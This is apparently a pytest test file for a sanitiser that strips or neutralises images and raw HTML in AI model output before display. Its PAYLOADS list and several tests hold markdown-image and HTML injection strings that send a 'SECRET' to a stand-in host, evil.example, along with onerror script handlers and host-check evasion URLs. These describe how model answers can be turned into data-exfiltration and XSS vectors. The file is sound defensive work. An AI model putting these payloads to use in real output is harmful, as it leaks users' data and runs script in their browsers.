"""Model output made safe to show (frontends/core/markup.py): no image from a host not allowed,
no raw HTML, everything else as it was (issue 21, item 11); user text shown as text (item 12).

Each output is rendered by a CommonMark renderer with raw HTML on (markdown-it-py, what Gradio's
and Streamlit's renderers agree with on these constructs): the check is on the HTML a browser
would get, not on the Markdown source.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from frontends.core.markup import IMAGE_HOSTS_ENV, html_text, image_hosts, safe_markdown

_MD = MarkdownIt("commonmark", {"html": True}).enable("table")
ALLOWED = "img.example"
EVIL = "https://evil.example/collect?q=SECRET"


def rendered(markdown: str) -> str:
    return _MD.render(markdown)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


def tags(page: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Tags()
    parser.feed(page)
    return parser.tags


def fetching_sources(page: str) -> list[str]:
    """What the browser would fetch by itself: every attribute but a link's href that names a URL
    (src, srcset, poster, data, href of svg, style's url())."""
    return [value for tag, attrs in tags(page) for name, value in attrs.items()
            if not (tag == "a" and name == "href") and (name in {"src", "srcset", "poster", "data", "href",
                                                                 "background"} or "url(" in value)]


SAFE_TAGS = {"p", "a", "em", "strong", "code", "pre", "br", "hr", "ul", "ol", "li", "blockquote", "table", "thead",
             "tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6"}


PAYLOADS = [
    f"![]({EVIL})",
    f"Here you go ![chart]({EVIL} \"title\") done",
    f"![x](<{EVIL}&a=b c>)",
    f"![ref][r]\n\n[r]: {EVIL}",
    f"![r]\n\n[r]: <{EVIL}>",
    f"![r][]\n\n[R]: {EVIL}",
    f"<img src=\"{EVIL}\">",
    f"<IMG SRC='{EVIL}' onerror=alert(1)>",
    f"text <video poster=\"{EVIL}\"></video> <audio src={EVIL}></audio>",
    f"<picture><source srcset=\"{EVIL}\"></picture><iframe src={EVIL}></iframe>",
    f"<div style=\"background:url({EVIL})\">x</div>",
    f"<svg><image href=\"{EVIL}\"/></svg>",
    f"<!-- c --><object data={EVIL}></object>",
    f"![a ![b]({EVIL})](https://{ALLOWED}/ok.png)",
    f"[![inner]({EVIL})](https://example.com)",
    f"![x](https://{ALLOWED}\\@evil.example/p.png)",
    f"![x](https://{ALLOWED}@evil.example/p.png)",
    f"![x](http://evil.example/{ALLOWED}/p.png)",
    f"![x](//{ALLOWED}.evil.example/p.png)",
    f"![x](https://{ALLOWED}%2e.evil.example/p.png)",
    "![x](https&#58;//evil.example/p.png)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    f"* item\n\n  ![x]({EVIL})\n\n> quote <img src={EVIL}>",
    f"| a | b |\n|---|---|\n| ![x]({EVIL}) | <img src={EVIL}> |",
    f"``` ok\n\n<img src='{EVIL}'>",  # no fence closes: still code to the end
    f"`code` <img src='{EVIL}'> `more`",
    # a code span never crosses a block's end: these backticks are text (found by the property test in CI)
    f"[r]: ```{EVIL}\n![r]: ```\n",
    f"`a\n\n![x]({EVIL}) `",
    f"# h `\n![x]({EVIL}) `",
    f"- a `\n- ![x]({EVIL}) `",
    f"> `a\n\n<img src=\"{EVIL}\">`",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_image_or_tag_from_a_model_answer_reaches_the_page(payload):
    page = rendered(safe_markdown(payload, {ALLOWED}))
    assert not [s for s in fetching_sources(page) if "evil" in s or not s.startswith(f"https://{ALLOWED}/")], page
    assert {tag for tag, _ in tags(page)} <= SAFE_TAGS | {"img"}, page


def test_the_payloads_are_real_ones():
    """Without the sanitiser every payload makes the browser fetch from evil.example, but three:
    an image inside an image's alt (it is the alt text), a data: image (an image all the same,
    made a link) and an unclosed fence (code to the end)."""
    harmless = [p for p in PAYLOADS if not any("evil" in s for s in fetching_sources(rendered(p)))]
    assert harmless == [PAYLOADS[13], PAYLOADS[21], PAYLOADS[24]], harmless


def test_a_disallowed_image_is_a_link_to_its_url_and_markdown_is_kept():
    page = rendered(safe_markdown(f"**Bold** and _it_ ![chart]({EVIL}) ![]({EVIL})"))
    assert f'<a href="{EVIL}">chart</a>' in page.replace("&amp;", "&")
    assert f'<a href="{EVIL}">image</a>' in page  # an empty alt still shows something to click
    assert "<strong>Bold</strong>" in page and "<em>it</em>" in page


def test_raw_html_is_shown_as_text_and_code_is_untouched():
    text = "a <b>bold</b> <img src=x>\n\n`<img src=y>`\n\n```html\n<img src=z>\n![i](https://evil.example/)\n```\n"
    out = safe_markdown(text)
    page = rendered(out)
    assert "&lt;b&gt;bold&lt;/b&gt;" in page and "&lt;img src=x&gt;" in page  # the text the user sees: <b>bold</b>
    assert "<code>&lt;img src=y&gt;</code>" in page
    assert "```html\n<img src=z>\n![i](https://evil.example/)\n```\n" in out  # code as the model wrote it


@pytest.mark.parametrize("text", [
    "Plain **markdown**: a [link](https://example.com), a list\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "Math: 3 < 4 and 5 > 2, a <https://example.com> autolink and <ann@example.com>",
    "Escaped \\*stars\\* and ~~strike~~ and `code` and ![](not-closed",
])
def test_harmless_markdown_renders_the_same(text):
    expected = rendered(text).replace("![](not-closed", "[](not-closed")
    assert rendered(safe_markdown(text)) == expected


def test_images_from_an_allowed_host_stay_images():
    out = safe_markdown(f"![logo](https://{ALLOWED}/l.png) ![r][r]\n\n[r]: http://IMG.example/r.png", {ALLOWED})
    assert re.findall(r'<img src="([^"]+)"', rendered(out)) == [f"https://{ALLOWED}/l.png", "http://IMG.example/r.png"]
    assert "<img" not in rendered(safe_markdown(f"![logo](https://{ALLOWED}/l.png)"))  # none by default


def test_a_partial_answer_is_never_an_image():
    """Streaming: every prefix of an answer is safe, and a finished one shows its link."""
    answer = f"Look: ![x]({EVIL}) <img src={EVIL}> end"
    for i in range(len(answer) + 1):
        page = rendered(safe_markdown(answer[:i]))
        assert "<img" not in page and "evil.example" not in " ".join(fetching_sources(page)), answer[:i]


_PIECES = st.sampled_from(["![", "](", ")", "[", "]", "<", ">", "img src=", "`", "```\n", "\n", " ", "\\", "!",
                           "evil.example/x", f"https://{ALLOWED}/", "https://", "\"t\"", "[r]: ", "<a", "/>", "(", "&"])


@settings(max_examples=400, deadline=None)
@example("[r]: ```\n![r]: ```\n")  # CI, 2026-12-02: a reference definition the old splitter took for code
@given(st.lists(_PIECES, max_size=30).map("".join))
def test_no_fetch_from_any_arrangement_of_the_pieces(text):
    page = rendered(safe_markdown(text, {ALLOWED}))
    for src in fetching_sources(page):
        assert src.lower().startswith((f"https://{ALLOWED}/", f"http://{ALLOWED}/")), (text, page)
    assert {tag for tag, _ in tags(page)} <= SAFE_TAGS | {"img"}, (text, page)


def test_the_allow_list_comes_from_the_environment():
    assert image_hosts({}) == frozenset()
    assert image_hosts({IMAGE_HOSTS_ENV: " img.example, CDN.Example  other.example,"}) == {
        "img.example", "cdn.example", "other.example"}


def test_user_text_is_shown_as_text():
    comment = '<img src=x onerror=alert(1)> **bold** $x$ {{v}} & "q"'
    out = html_text(comment)
    assert "<" not in out and "$" not in out and "{" not in out
    assert html.unescape(out) == comment


def test_what_fools_the_rewrite_is_shown_fully_escaped():
    """A code span the rewrite saw across a heading's end: the parser's check catches it, and the whole
    answer is shown with its image and tag openers escaped, text otherwise intact."""
    answer = f"# h `\n![x]({EVIL}) <b>`"
    out = safe_markdown(answer)
    assert out == f"# h `\n!\\[x]({EVIL}) &lt;b>`"
    assert not fetching_sources(rendered(out)) and "<h1>h `</h1>" in rendered(out)



def test_markdown_literal_shows_a_users_text_exactly() -> None:
    from frontends.core.markup import markdown_literal

    text = "<b>hi</b> **x** [a](b) `c` # d :red[e] $f$ \\"
    rendered = MarkdownIt("commonmark").render(markdown_literal(text))
    assert rendered == "<p>" + html.escape(text, quote=False).replace('"', "&quot;") + "</p>\n"
